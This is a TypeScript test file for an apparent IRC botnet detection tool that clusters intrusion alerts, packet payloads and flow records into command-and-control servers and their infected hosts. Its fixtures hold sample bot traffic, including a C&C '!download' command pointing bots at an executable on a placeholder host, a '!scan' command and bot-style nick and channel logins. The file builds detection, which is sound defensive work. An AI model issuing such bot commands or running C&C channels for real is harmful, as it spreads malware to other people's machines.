/** Cluster rules on hand-made rows: server side, one key per server, levels, new members. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { ClusterBuilder, rememberClusters } from '../../src/analysis/irc-clusters.js';
import { packetRow, row } from './irc-fixtures.js';

const HOME = ['163.221.0.0/16', '2001:db8:a3dd::/48'];
const botAlert = (src: string, dst: string, sport: number, dport: number, over = {}) =>
  row({ src, dst, sport, dport, message: 'BOT IRC bot-style nickname', classification: 'A Network Trojan was detected', ...over });

test('one server on two ports is one cluster; the C&C is found as the source of a command too', () => {
  const b = new ClusterBuilder({ homeNets: HOME });
  b.addAlert(botAlert('163.221.10.17', '203.0.113.66', 4000, 6667));
  b.addAlert(botAlert('163.221.52.28', '203.0.113.66', 4001, 31337));
  b.addAlert(row({ src: '203.0.113.66', sport: 6667, dst: '163.221.10.18', dport: 4002, message: 'BOT IRC bot command !scan from C&C' }));
  const [c] = b.result();
  assert.equal(c!.server, '203.0.113.66');
  assert.deepEqual(c!.ports, [6667, 31337]);
  assert.deepEqual(c!.members.map((m) => m.host).sort(), ['163.221.10.17', '163.221.10.18', '163.221.52.28']);
  assert.equal(c!.level, 'confirmed');
});

test('payload decides the direction and fills channels, nicks, commands; IRC on 80 is listed', () => {
  const b = new ClusterBuilder({ homeNets: HOME });
  const a1 = row({ src: '163.221.52.29', sport: 26252, dst: '198.51.100.23', dport: 80, gid: 119, sid: 31, message: '(http_inspect) UNKNOWN METHOD' });
  b.addPacket(packetRow(a1, 'NICK [USA|XP|32610]\r\nUSER usax 0 0 :[USA|XP|32610]\r\nJOIN #dl s3cr3t\r\n'));
  b.addPacket(packetRow(a1, ':h4x0r!boss@cc.example PRIVMSG #dl :!download http://198.51.100.23/upd.exe\r\n', 'dst'));
  const [c] = b.result();
  assert.equal(c!.server, '198.51.100.23');
  assert.deepEqual(c!.ports, [80]);
  assert.deepEqual(c!.channels, [{ name: '#dl', keys: ['s3cr3t'] }]);
  assert.deepEqual(c!.nickPatterns, [{ pattern: '[USA|XP|nnnnn]', count: 1, botStyle: true }]);
  assert.deepEqual(c!.commands.map((x) => x.verb), ['!download']);
  assert.equal(c!.level, 'confirmed');
  assert.ok(c!.reasons.some((r) => /port 80/.test(r)));
  assert.equal(c!.evidence.alerts, 1, 'the alert of two packets counts once');
});

test('ordinary IRC users form a chat server, not a bot cluster; outside-only talk is ignored', () => {
  const b = new ClusterBuilder({ homeNets: HOME });
  for (const [i, h] of ['163.221.52.30', '163.221.200.50', '163.221.10.19'].entries()) {
    const a = row({ src: h, sport: 5000 + i, dst: '192.0.2.6', dport: 6667, message: 'CHAT IRC nick change', classification: 'Potential Corporate Privacy Violation' });
    b.addAlert(a);
    b.addPacket(packetRow(a, `NICK user${i}\r\nUSER u 8 * :U\r\nJOIN #debian-jp\r\n`));
  }
  b.addAlert(row({ src: '192.0.2.1', dst: '192.0.2.6', dport: 6667, message: 'CHAT IRC nick change' }));
  const all = b.result();
  assert.equal(all.length, 1);
  assert.equal(all[0]!.level, 'chat');
  assert.equal(all[0]!.members.length, 3);
});

test('a host joining a recorded server is new; the record only grows', () => {
  const first = new ClusterBuilder({ homeNets: HOME });
  first.addAlert(botAlert('163.221.10.17', '203.0.113.66', 4000, 6667));
  const known = rememberClusters({}, first.result(), '2026-11-20T00:00:00.000Z');
  const later = new ClusterBuilder({ homeNets: HOME, known });
  later.addAlert(botAlert('163.221.10.17', '203.0.113.66', 4000, 6667));
  later.addAlert(botAlert('163.221.10.99', '203.0.113.66', 4001, 6667));
  const [c] = later.result();
  assert.deepEqual(c!.newMembers, ['163.221.10.99']);
  assert.equal(c!.known, true);
  const after = rememberClusters(known, [c!], '2026-11-21T00:00:00.000Z');
  assert.equal(after['203.0.113.66']!.since, '2026-11-20T00:00:00.000Z');
  assert.equal(after['203.0.113.66']!.members['163.221.10.99'], '2026-11-21T00:00:00.000Z');
  // Still new on the next run (it joined after the server was recorded); nothing is dropped.
  const again = new ClusterBuilder({ homeNets: HOME, known: after });
  again.addAlert(botAlert('163.221.10.99', '203.0.113.66', 4001, 6667));
  assert.deepEqual(again.result()[0]!.newMembers, ['163.221.10.99']);
  assert.deepEqual(Object.keys(rememberClusters(after, [], 'x')['203.0.113.66']!.members).sort(), ['163.221.10.17', '163.221.10.99']);
});

test('flows add evidence and round up hosts seen only in flows to a found server', () => {
  const b = new ClusterBuilder({ homeNets: HOME });
  b.addAlert(botAlert('163.221.10.17', '203.0.113.66', 4000, 6667));
  b.addFlows([
    { host: '163.221.10.17', peer: '203.0.113.66', flows: 3, packets: 30, bytes: 3000, firstUs: 1, lastUs: 2 },
    { host: '163.221.10.50', peer: '203.0.113.66', flows: 1, packets: 2, bytes: 100, firstUs: 1, lastUs: 2 },
    { host: '163.221.10.51', peer: '192.0.2.200', flows: 1, packets: 2, bytes: 100, firstUs: 1, lastUs: 2 },
  ]);
  const [c] = b.result();
  assert.equal(c!.evidence.flows, 4);
  assert.deepEqual(c!.members.find((m) => m.host === '163.221.10.50')!.via, ['flows']);
  assert.equal(c!.members.length, 2);
});
